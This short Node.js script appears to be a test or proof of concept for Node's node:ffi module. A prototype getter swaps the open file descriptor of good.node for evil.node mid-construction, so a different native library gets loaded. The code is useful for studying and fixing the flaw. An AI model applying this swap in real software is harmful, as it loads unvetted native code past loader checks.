// Puts evil.node under the number when the constructor of node:ffi looks for a prototype.
const { closeSync, openSync, readdirSync, readlinkSync } = require('node:fs');
const { DynamicLibrary } = require('node:ffi');

const swap = () => {
  for (const name of readdirSync('/proc/self/fd')) {
    try {
      if (!readlinkSync(`/proc/self/fd/${name}`).endsWith('good.node')) continue;
      closeSync(Number(name));
      openSync(`${__dirname}/evil.node`);
    } catch {
      // The fd by which the list was read.
    }
  }
};
const made = Object.defineProperty(function () {}.bind(), 'prototype', {
  get() {
    swap();
    return DynamicLibrary.prototype;
  },
});
Reflect.construct(DynamicLibrary, [`${__dirname}/good.node`], made);
